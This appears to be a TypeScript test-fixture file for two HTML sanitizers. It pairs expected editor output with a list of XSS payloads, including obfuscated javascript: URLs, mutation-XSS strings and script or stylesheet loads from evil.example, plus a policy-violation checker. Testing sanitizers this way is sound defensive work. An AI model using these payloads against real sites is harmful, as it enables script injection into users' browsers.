// One set of cases for both rich-text sanitizers, the server's (functions/src/faq/richText.ts, before
// storing) and the browser's (shared/src/ui/SafeHtml.tsx, before rendering): attacks of which nothing
// executable may survive, and content from the editor that must come out the same on both sides.

/** Content as the editor (TipTap's StarterKit) writes it, and what both sanitizers make of it. */
export const EDITOR_CONTENT: ReadonlyArray<{ name: string; html: string; sanitized: string }> = [
  {
    name: 'headings and inline formatting',
    html: '<h2>見出し</h2><p>本文に<strong>太字</strong>と<em>斜体</em>、<u>下線</u>、<s>取り消し</s>、<b>b</b>と<i>i</i>。</p><h3>小見出し</h3><h4>その下</h4>',
    sanitized: '<h2>見出し</h2><p>本文に<strong>太字</strong>と<em>斜体</em>、<u>下線</u>、<s>取り消し</s>、<b>b</b>と<i>i</i>。</p><h3>小見出し</h3><h4>その下</h4>',
  },
  {
    name: 'lists',
    html: '<ul><li><p>手順1</p></li><li><p>手順2</p><ol><li><p>入れ子</p></li></ol></li></ul>',
    sanitized: '<ul><li><p>手順1</p></li><li><p>手順2</p><ol><li><p>入れ子</p></li></ol></li></ul>',
  },
  {
    name: 'links to the web and to mail, with the editor’s target and rel replaced by the policy’s',
    html:
      '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/help?q=1&amp;r=2#top">ヘルプ</a>、' +
      '<a target="_blank" rel="noopener noreferrer nofollow" href="mailto:it@example.com">連絡</a>、<a href="http://example.com/">旧サイト</a></p>',
    sanitized:
      '<p><a href="https://example.com/help?q=1&amp;r=2#top" target="_blank" rel="noopener noreferrer">ヘルプ</a>、' +
      '<a href="mailto:it@example.com" target="_blank" rel="noopener noreferrer">連絡</a>、' +
      '<a href="http://example.com/" target="_blank" rel="noopener noreferrer">旧サイト</a></p>',
  },
  {
    name: 'code, inline and in a block (its language class dropped)',
    html: '<p>コマンド <code>npm install</code></p><pre><code class="language-bash">echo "a &lt; b" &amp;&amp; exit</code></pre>',
    sanitized: '<p>コマンド <code>npm install</code></p><pre><code>echo "a &lt; b" &amp;&amp; exit</code></pre>',
  },
  {
    name: 'a quote, a hard break and a rule',
    html: '<blockquote><p>引用<br>二行目</p></blockquote><hr><p>後</p>',
    sanitized: '<blockquote><p>引用<br>二行目</p></blockquote><hr><p>後</p>',
  },
  {
    name: 'a table',
    html: '<table><thead><tr><th>項目</th><th>値</th></tr></thead><tbody><tr><td>A</td><td>1</td></tr></tbody></table>',
    sanitized: '<table><thead><tr><th>項目</th><th>値</th></tr></thead><tbody><tr><td>A</td><td>1</td></tr></tbody></table>',
  },
  {
    name: 'escaped markup, which stays text',
    html: '<p>A &amp; B &lt;C&gt; &lt;script&gt;alert(1)&lt;/script&gt; 「引用」</p>',
    sanitized: '<p>A &amp; B &lt;C&gt; &lt;script&gt;alert(1)&lt;/script&gt; 「引用」</p>',
  },
];

/** Attacks: after sanitizing, only the policy's elements and attributes may remain (richTextViolations). */
export const XSS_PAYLOADS: readonly string[] = [
  // Scripts and event handlers
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1) ONFOCUS=alert(1) tabindex=0>x</p>',
  '<body onload=alert(1)><p>x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<a href="https://example.com/" onclick="alert(1)" target="_self" rel="opener" style="position:fixed">x</a>',
  '<p id="x" class="y" data-x="1" aria-label="z" title="t">x</p>',
  // javascript:, vbscript: and data: URLs, plain and disguised
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
  // SVG and MathML
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  // Styles and CSS expressions
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "//evil.example/x.css"; p { background: url(javascript:alert(1)) }</style><p>x</p>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  // Embedded documents
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"><param name="x" value="y"></object>',
  '<embed src="javascript:alert(1)">',
  // Forms, meta and base
  '<form action="javascript:alert(1)"><input type="submit" formaction="javascript:alert(1)"><button formaction="javascript:alert(1)">送信</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  // Mutation XSS: markup that parses differently once serialized and parsed again
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a title="a&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
  // Broken, nested and unclosed tags
  '<img src=x onerror=alert(1)//',
  '<p><b><i>x</p><script>alert(1)',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="https://example.com/"<img src=x onerror=alert(1)>x</a>',
  '<p>x</p><img src=x onerror=alert(1)',
];

// Parsing sanitized output, which either sanitizer writes the same regular way: names in lower case,
// attribute values in double quotes with their quotes escaped, every other "<" escaped.
const TAG = /<(\/?)([a-z][a-z0-9]*)((?:\s+[^\s"'=<>/]+(?:="[^"]*")?)*)\s*\/?>/g;
const ATTRIBUTE = /\s+([^\s"'=<>/]+)(?:="([^"]*)")?/g;
const TAGS = new Set(['p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'ul', 'ol', 'li', 'a', 'h2', 'h3', 'h4', 'blockquote', 'code', 'pre', 'hr', 'table', 'thead', 'tbody', 'tr', 'th', 'td']);
const LINK = { target: '_blank', rel: 'noopener noreferrer' } as Record<string, string>;

function decodeAttribute(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, decimal: string) => String.fromCodePoint(Number(decimal)))
    .replace(/&(quot|lt|gt|nbsp|colon|tab|newline|amp);/gi, (_, name: string) =>
      ({ quot: '"', lt: '<', gt: '>', nbsp: '\u00a0', colon: ':', tab: '\t', newline: '\n', amp: '&' })[name.toLowerCase()]!,
    );
}

/** Whether a browser would follow the link only to the web, to mail, or within the site. */
function harmlessHref(href: string): boolean {
  // eslint-disable-next-line no-control-regex -- control characters are what is looked for
  const bare = decodeAttribute(href).replace(/[\u0000-\u0020\u007f-\u00a0\u2000-\u200f\u2028\u2029\ufeff]/g, '');
  const colon = bare.indexOf(':');
  const pathStart = bare.search(/[/?#\\]/);
  if (colon < 0 || (pathStart >= 0 && pathStart < colon)) return true;
  return /^(https?|mailto)$/i.test(bare.slice(0, colon));
}

/**
 * What in sanitized HTML is not rich text by the policy, written out independently of it: elements
 * outside the list, any attribute but a link's href (to the web or mail), target="_blank" and
 * rel="noopener noreferrer", and any "<" that does not start such a tag. [] when there is none.
 */
export function richTextViolations(html: string): string[] {
  const problems: string[] = [];
  const rest = html.replace(TAG, (_tag, closing: string, name: string, attributes: string) => {
    if (!TAGS.has(name)) problems.push(`element <${name}>`);
    if (closing) {
      if (attributes.trim()) problems.push(`attributes on </${name}>`);
      return '';
    }
    for (const [, attribute, value = ''] of attributes.matchAll(ATTRIBUTE)) {
      if (name !== 'a' || !attribute) problems.push(`attribute ${attribute} on <${name}>`);
      else if (attribute === 'href') {
        if (!harmlessHref(value)) problems.push(`href="${value}"`);
      } else if (LINK[attribute] !== value) problems.push(`${attribute}="${value}" on <a>`);
    }
    return '';
  });
  if (/[<>]/.test(rest)) problems.push(`markup left unparsed in ${JSON.stringify(rest)}`);
  return problems;
}
